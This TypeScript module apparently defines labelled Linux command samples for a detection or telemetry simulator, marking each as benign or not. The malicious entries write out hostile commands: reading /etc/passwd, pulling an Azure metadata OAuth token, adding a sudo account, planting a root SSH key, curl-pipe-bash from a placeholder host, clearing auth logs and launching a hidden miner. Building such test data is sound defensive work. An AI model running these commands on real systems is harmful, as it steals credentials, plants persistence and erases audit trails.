import { lasting, linux } from './command.ts';
import type { Payload } from './payload.ts';

const second = 1000;

/** Payload classes on Linux. An empty `commands` uses shell builtins alone: it leaves no child process at all. */
export const linuxPayloads: Readonly<Record<string, Payload>> = {
  discovery: {
    lines: ['id', 'uname -a', 'cat /etc/passwd', 'ss -tlnp'],
    commands: [
      linux('/usr/bin/id', ['id']),
      linux('/usr/bin/uname', ['uname', '-a']),
      linux('/usr/bin/cat', ['cat', '/etc/passwd']),
      linux('/usr/bin/ss', ['ss', '-tlnp']),
    ],
    lasts: [1 * second, 4 * second],
    benign: false,
  },
  'metadata-token': {
    lines: [
      "curl -s -H 'Metadata: true' 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'",
    ],
    commands: [
      linux('/usr/bin/curl', [
        'curl',
        '-s',
        '-H',
        'Metadata: true',
        'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/',
      ]),
    ],
    lasts: [1 * second, 4 * second],
    benign: false,
  },
  'local-admin': {
    lines: ['useradd -m svc-support', 'usermod -aG sudo svc-support'],
    commands: [
      linux('/usr/sbin/useradd', ['useradd', '-m', 'svc-support']),
      linux('/usr/sbin/usermod', ['usermod', '-aG', 'sudo', 'svc-support']),
    ],
    lasts: [1 * second, 4 * second],
    benign: false,
  },
  'ssh-key': {
    lines: [
      "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEexampleexampleexampleexample' >> /root/.ssh/authorized_keys",
    ],
    commands: [],
    lasts: [1 * second, 2 * second],
    benign: false,
  },
  'download-exec': {
    lines: ['curl -fsSL https://downloads.fabrikam.com/setup.sh | bash'],
    commands: [
      linux('/usr/bin/curl', ['curl', '-fsSL', 'https://downloads.fabrikam.com/setup.sh']),
      linux('/usr/bin/bash', ['bash'], [linux('/usr/bin/uname', ['uname', '-m'])], 1500),
    ],
    lasts: [3 * second, 12 * second],
    benign: false,
  },
  'log-clearing': {
    lines: ['truncate -s 0 /var/log/auth.log', 'journalctl --vacuum-time=1s'],
    commands: [
      linux('/usr/bin/truncate', ['truncate', '-s', '0', '/var/log/auth.log']),
      linux('/usr/bin/journalctl', ['journalctl', '--vacuum-time=1s']),
    ],
    lasts: [1 * second, 5 * second],
    benign: false,
  },
  miner: {
    lines: ['nohup /tmp/.cache/worker --pool pool.fabrikam.com:3333 &'],
    commands: [
      lasting(
        linux('/tmp/.cache/worker', ['/tmp/.cache/worker', '--pool', 'pool.fabrikam.com:3333']),
        600_000,
      ),
    ],
    lasts: [1 * second, 3 * second],
    benign: false,
  },
  inventory: {
    lines: ['df -h', 'ip addr'],
    commands: [linux('/usr/bin/df', ['df', '-h']), linux('/usr/sbin/ip', ['ip', 'addr'])],
    lasts: [1 * second, 3 * second],
    benign: true,
  },
  deploy: {
    lines: [
      'systemctl stop contoso-web',
      'tar -xzf /opt/deploy/web.tar.gz -C /srv/web',
      'systemctl start contoso-web',
    ],
    commands: [
      linux('/usr/bin/systemctl', ['systemctl', 'stop', 'contoso-web']),
      linux(
        '/usr/bin/tar',
        ['tar', '-xzf', '/opt/deploy/web.tar.gz', '-C', '/srv/web'],
        [linux('/usr/bin/gzip', ['gzip', '-d'])],
        3000,
      ),
      linux('/usr/bin/systemctl', ['systemctl', 'start', 'contoso-web']),
    ],
    lasts: [6 * second, 30 * second],
    benign: true,
  },
  'package-update': {
    lines: ['apt-get update', 'apt-get -y install contoso-agent'],
    commands: [
      lasting(linux('/usr/bin/apt-get', ['apt-get', 'update']), 9000),
      lasting(linux('/usr/bin/apt-get', ['apt-get', '-y', 'install', 'contoso-agent']), 15_000),
    ],
    lasts: [25 * second, 80 * second],
    benign: true,
  },
};
